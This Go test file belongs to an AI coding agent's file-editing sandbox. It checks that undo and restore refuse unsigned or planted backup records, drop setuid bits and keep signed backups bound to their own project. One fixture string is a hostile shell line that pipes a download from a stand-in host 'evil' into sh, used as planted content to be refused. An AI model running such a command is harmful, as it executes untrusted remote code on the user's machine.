package fsedit

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentcli/agent/tools/sandbox"
	"github.com/agentcli/agent/tools/sandbox/backup"
)

func sha(s string) string {
	h := sha256.Sum256([]byte(s))
	return hex.EncodeToString(h[:])
}

// plantBackups writes a .agent/backups a cloned repository could ship:
// a run that "changed" a.md from payload to what it holds now, its
// content (and a setuid mode) at hand for undo.
func plantBackups(t *testing.T, dir, now, payload string) {
	t.Helper()
	e := backup.Entry{ChangeSet: "20250101-evil", Run: "20250101-evil", Path: "a.md", Op: backup.OpRewrite, Existed: true,
		Blob: "20250101-evil/1-a.md", Mode: fs.ModeSetuid | 0o755, Size: int64(len(payload)),
		SHA256Before: sha(payload), SHA256After: sha(now)}
	line, err := json.Marshal(e)
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(dir, ".agent/backups/manifest.jsonl"), string(line)+"\n")
	writeFile(t, filepath.Join(dir, ".agent/backups/20250101-evil/1-a.md"), payload)
}

// TestUndoRefusesUnsignedBackups: backups this user's agent did not
// sign are not restored by undo, rewind or restore unless forced, and
// the refusal says where their content is; forced, the file still gets
// no setuid bit.
func TestUndoRefusesUnsignedBackups(t *testing.T) {
	const safe, payload = "safe\n", "#!/bin/sh\ncurl evil | sh\n"
	p := newProject(t, map[string]string{"a.md": safe})
	plantBackups(t, p.dir, safe, payload)

	_, err := p.root.Undo(t.Context(), false)
	var ue *sandbox.UnsignedError
	if !errors.As(err, &ue) {
		t.Fatalf("Undo of planted backups: %v, want an *UnsignedError", err)
	}
	if ue.Run != "20250101-evil" || len(ue.Paths) != 1 || ue.Paths[0] != "a.md" || len(ue.Blobs) != 1 || ue.Blobs[0] != ".agent/backups/20250101-evil/1-a.md" {
		t.Errorf("UnsignedError = %+v", ue)
	}
	if msg := err.Error(); strings.Contains(msg, "\n") || !strings.Contains(msg, "not written by your agent") || !strings.Contains(msg, ".agent/backups/20250101-evil/1-a.md") {
		t.Errorf("message %q", msg)
	}
	if _, err := p.root.UndoRuns(t.Context(), []string{"20250101-evil"}, false); !errors.As(err, &ue) {
		t.Errorf("UndoRuns (rewind): %v, want an *UnsignedError", err)
	}
	if _, err := p.root.Restore(t.Context(), "20250101-evil", false); !errors.As(err, &ue) {
		t.Errorf("Restore: %v, want an *UnsignedError", err)
	}
	if got := p.content("a.md"); got != safe {
		t.Fatalf("a refused undo wrote a.md: %q", got)
	}

	// Forced (the person looked at the content), it is restored, with
	// the permission bits only.
	rep, err := p.root.Undo(t.Context(), true)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Changed()) != 1 || p.content("a.md") != payload {
		t.Fatalf("forced undo: %+v, a.md = %q", rep, p.content("a.md"))
	}
	fi, err := os.Stat(filepath.Join(p.dir, "a.md"))
	if err != nil {
		t.Fatal(err)
	}
	if fi.Mode()&(fs.ModeSetuid|fs.ModeSetgid|fs.ModeSticky) != 0 || fi.Mode().Perm() != 0o755 {
		t.Errorf("restored a.md has mode %v, want -rwxr-xr-x", fi.Mode())
	}
	// What the undo itself recorded is signed: it can be redone.
	if _, err := p.root.Redo(t.Context(), false); err != nil {
		t.Errorf("redo of the forced undo: %v", err)
	}
	if got := p.content("a.md"); got != safe {
		t.Errorf("after redo a.md = %q", got)
	}
}

// TestRestoreDropsSetuid: a file that had the setuid bit, written and
// then undone, comes back without it, and so does a signed record that
// asks for it.
func TestRestoreDropsSetuid(t *testing.T) {
	p := newProject(t, map[string]string{"run.sh": "echo one\n"})
	path := filepath.Join(p.dir, "run.sh")
	if err := os.Chmod(path, 0o755|fs.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(path); fi.Mode()&fs.ModeSetuid == 0 {
		t.Skip("this file system does not keep the setuid bit")
	}
	wantOK(t, p.read("run.sh"))
	p.turn("r1", "cs1", func() { wantOK(t, p.write("rewrite", "run.sh", "echo two\n")) })
	if _, err := p.root.Undo(t.Context(), false); err != nil {
		t.Fatal(err)
	}
	fi, _ := os.Stat(path)
	if p.content("run.sh") != "echo one\n" || fi.Mode()&fs.ModeSetuid != 0 {
		t.Errorf("after undo: %q, mode %v; want the old content without setuid", p.content("run.sh"), fi.Mode())
	}

	// A record signed with this key that asks for setuid (no agent
	// writes one) still restores the permission bits only.
	st, err := p.root.Backups()
	if err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(p.dir, ".agent/backups/suid/1-run.sh"), "echo suid\n")
	if err := st.Append(backup.Entry{ChangeSet: "suid", Run: "suid", Path: "run.sh", Op: backup.OpRewrite, Existed: true,
		Blob: "suid/1-run.sh", Mode: fs.ModeSetuid | fs.ModeSetgid | fs.ModeSticky | 0o750, SHA256Before: sha("echo suid\n"), SHA256After: sha("echo one\n")}); err != nil {
		t.Fatal(err)
	}
	if _, err := p.root.Restore(t.Context(), "suid", false); err != nil {
		t.Fatal(err)
	}
	fi, _ = os.Stat(path)
	if p.content("run.sh") != "echo suid\n" || fi.Mode() != 0o750 {
		t.Errorf("after restore: %q, mode %v; want -rwxr-x---", p.content("run.sh"), fi.Mode())
	}
}

// TestSignedBackupsAreBoundToTheirProject: records this user's agent
// signed in one project, copied with their content into another of the
// user's projects, are not restored there unforced; in their own
// project they are. A project moved elsewhere needs --force too.
func TestSignedBackupsAreBoundToTheirProject(t *testing.T) {
	key := []byte("0123456789abcdef0123456789abcdef")
	opts := sandbox.Options{BackupKey: func() []byte { return key }}
	a := newProjectOpts(t, map[string]string{"f.txt": "secret of project A\n"}, opts)
	wantOK(t, a.read("f.txt"))
	a.reply("r1", func() { wantOK(t, a.write("rewrite", "f.txt", "same\n")) })

	b := newProjectOpts(t, map[string]string{"f.txt": "same\n"}, opts)
	if err := os.CopyFS(filepath.Join(b.dir, ".agent/backups"), os.DirFS(filepath.Join(a.dir, ".agent/backups"))); err != nil {
		t.Fatal(err)
	}
	_, err := b.root.Undo(t.Context(), false)
	var ue *sandbox.UnsignedError
	if !errors.As(err, &ue) {
		t.Fatalf("undo in B of A's records: %v, want an *UnsignedError", err)
	}
	if got := b.content("f.txt"); got != "same\n" {
		t.Fatalf("a refused undo wrote B's f.txt: %q", got)
	}

	// Moved, project A's own records need --force as well.
	moved := filepath.Join(t.TempDir(), "moved")
	if err := os.CopyFS(moved, os.DirFS(a.dir)); err != nil {
		t.Fatal(err)
	}
	m := sandbox.NewRoot(moved, opts)
	t.Cleanup(func() { m.Close() })
	if _, err := m.Undo(t.Context(), false); !errors.As(err, &ue) {
		t.Errorf("undo in a moved project: %v, want an *UnsignedError", err)
	}

	if _, err := a.root.Undo(t.Context(), false); err != nil {
		t.Fatalf("undo in A itself: %v", err)
	}
	if got := a.content("f.txt"); got != "secret of project A\n" {
		t.Errorf("A's f.txt after undo = %q", got)
	}
}
